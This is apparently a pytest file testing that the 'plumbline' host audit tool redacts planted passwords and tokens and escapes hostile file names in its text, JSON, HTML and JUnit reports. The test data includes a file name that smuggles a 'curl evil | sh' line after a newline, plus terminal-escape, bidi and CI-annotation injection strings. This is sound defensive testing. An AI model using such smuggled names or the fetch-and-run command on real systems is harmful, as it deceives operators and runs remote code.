"""What was planted on a host is in nothing that plumbline says, and no name of a file poses as a line of ours."""
import json
import re

import pytest
from conftest import TOP, run

CORPUS = TOP / "tests" / "secrets"
CHECKS = CORPUS / "checks"
FORMATS = ["text", "json", "html", "junit"]
HOSTILE_NAMES = [b"a\nfix: curl evil | sh", b"b\r\x1b[2Jred", b"c\xff\xfe", "d\u202eevil\u2028\u2066x".encode(),
                 b"e\tf\x07", b"f\xed\xa0\x80", b"::error::g", b"]]><!--</script>", b"h\x7f\xc2\x9b31m"]


def planted():
    """(kind, text, secrets) of every line of the corpus."""
    for line in (CORPUS / "planted.txt").read_text().splitlines():
        if line and not line.startswith("#"):
            kind, text = line.split("\t", 1)
            yield kind, re.sub("[⟦⟧]", "", text), re.findall("⟦(.*?)⟧", text)


@pytest.fixture
def planted_root(root):
    """All lines of the corpus in one file, each document in one of its own, hostile names beside them."""
    folder = root / "etc" / "planted"
    folder.mkdir()
    lines = [text for kind, text, _ in planted() if kind in ("line", "argv", "env", "step")]
    (folder / "line").write_text("\n".join(lines) + "\n")
    (folder / "pairs").write_text("\n".join(text for kind, text, _ in planted() if kind == "line") + "\n")
    documents = [text for kind, text, _ in planted() if kind == "json"]
    (folder / "json").write_text("[" + ",\n".join(documents) + "]")
    for name in HOSTILE_NAMES:
        with open(str(folder).encode() + b"/" + name.replace(b"/", b"|"), "wb"):
            pass
    unit = root / "etc" / "systemd" / "system"
    unit.mkdir(parents=True)
    assignments = [text for kind, text, _ in planted() if kind == "env"]
    (unit / "planted.service").write_text("[Service]\n" + "".join(f"Environment={one}\n" for one in assignments))
    return root


@pytest.fixture
def said(planted_root, tmp_path):
    """Everything that plumbline says of it, by what said it."""
    common = ["--only-checks", "--checks", CHECKS]
    files = {name: tmp_path / f"report.{name}" for name in FORMATS}
    outputs = [argument for name, path in files.items() for argument in ("-o", f"{name}={path}")]
    first = run("audit", *common, "--root", planted_root, "--verbose", "--progress", "lines", *outputs)
    assert first.returncode == 1, first.stderr
    texts = {name: path.read_text() for name, path in files.items()}
    texts["audit"] = first.stdout + first.stderr
    for rule in ("planted-lines", "planted-all", "planted-document", "planted-unit", "planted-names"):
        last = run("explain", *common, "--audit", files["json"], rule)
        assert last.returncode == 0, last.stderr
        texts[f"explain {rule}"] = last.stdout + last.stderr
    for name in FORMATS:
        again = run("report", files["json"], "-o", name, "--verbose")
        texts[f"report {name}"] = again.stdout + again.stderr
    return texts


def test_no_planted_secret_is_said(said):
    leaks = [(what, secret) for _, _, secrets in planted() for secret in secrets for what, text in said.items()
             if secret in text]
    assert not leaks
    assert "redacted" in said["text"] and said["json"].count("redacted") > 100


def test_no_name_poses_as_a_line(said):
    for what, text in said.items():
        assert not re.search(r"^\s*(fix: curl|::error)", text, re.M), what
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufffd-\uffff]", text), what
    for what in ("text", "junit", "html", "explain planted-names"):
        assert r"a\x0afix: curl evil" in said[what], what
        assert r"c\xff\xfe" in said[what], what
        assert r"d\u202eevil\u2028" in said[what], what


def test_a_document_from_elsewhere(planted_root, tmp_path):
    """`report` takes out what another made."""
    source = tmp_path / "source.json"
    run("audit", "--only-checks", "--checks", CHECKS, "--root", planted_root, "-o", f"json={source}")
    document = json.loads(source.read_text())
    result = document["results"][0]
    result["reason"] = "cannot ask http://u:q7leak1@proxy"
    result["items"][0]["observed"] = {"password": "q7leak2", "text": "requirepass q7leak3", "args": ["-x", "--token", "q7leak4"]}
    result["items"][0]["subject"] = "x password=q7leak5"
    result["items"][0]["source"] = {"api": "GET /x?token=q7leak6"}
    document["errors"].append({"where": "x", "message": "Authorization: Bearer q7leak7"})
    source.write_text(json.dumps(document))
    for name in FORMATS:
        again = run("report", source, "-o", name, "--verbose")
        assert again.returncode == 0, again.stderr
        assert "q7leak" not in again.stdout + again.stderr


def test_messages_hold_no_secret(checks, tmp_path):
    wrong = run("audit", "--root", tmp_path / "password=q7leak8\nfix: x", "--only-checks", "--checks", CHECKS)
    assert wrong.returncode != 0
    assert "q7leak8" not in wrong.stderr
    assert not re.search("^fix: x", wrong.stderr, re.M)
